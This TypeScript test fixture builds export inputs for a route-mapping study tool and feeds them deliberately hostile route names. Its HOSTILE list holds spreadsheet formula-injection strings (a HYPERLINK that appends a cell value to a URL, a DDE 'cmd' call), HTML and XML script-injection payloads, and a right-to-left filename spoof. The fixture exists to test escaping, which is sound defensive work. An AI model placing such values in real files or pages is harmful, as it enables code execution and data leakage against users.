import { createStudy } from "../../../src/core/study/defaults";
import type { Route, Study } from "../../../src/core/study/study";
import type { ExportInput } from "../../../src/export/format";
import { composeScene, type Emphasis } from "../../../src/scene/compose";
import { hiddenFor } from "../../../src/scene/layers";
import { publishFiles } from "../../../src/worker/headless";
import { makeExtract } from "../../golden/make-extract";

/** What somebody might call a route to make trouble. */
export const HOSTILE = [
  '=HYPERLINK("https://example.invalid/?"&A1,"click")',
  '<img src=x onerror="alert(1)">',
  "+1+cmd|' /C calc'!A0",
  'quote " comma , and\nline break',
  "＝1+1",
  "@SUM(1)",
  "\u202Egnp.exe",
  "]]></desc><script>alert(1)</script>",
];

const line = [
  [-1.52, 52.4],
  [-1.5, 52.41],
] as const;
const routes: readonly Route[] = HOSTILE.map((name, i) => ({
  id: `route-${i}`,
  name,
  schoolId: null,
  to: null,
  line,
  example: false,
  note: name,
  noteDate: null,
}));

/** A small made-up extract seen through a study, and everything an exporter may look at. */
export async function exportInput(
  edit: (study: Study) => Study = (study) => study,
  name = "SYNTHETIC_small.csv",
  emphasis: Emphasis = "hotspots",
): Promise<ExportInput> {
  const study = edit(createStudy());
  const { published } = await publishFiles([new File([makeExtract()], name)], study, { today: "2026-04-01" });
  const scene = composeScene({ study, published, theme: "light", emphasis, hidden: hiddenFor(emphasis) });
  return { published, study, scene, emphasis, fonts: null };
}

/** Routes that count victims of any age, at home too: the small extract has few young ones. */
export const withEveryVictim = (study: Study): Study => ({
  ...study,
  routeRules: { ...study.routeRules, ageTo: null, streetRelevant: false },
});

/** The same with names that try to break out of every format. */
export const hostileInput = (emphasis: Emphasis = "hotspots"): Promise<ExportInput> =>
  exportInput((study) => ({ ...study, routes, title: HOSTILE.join(" ") }), '=cmd"<b>.csv', emphasis);
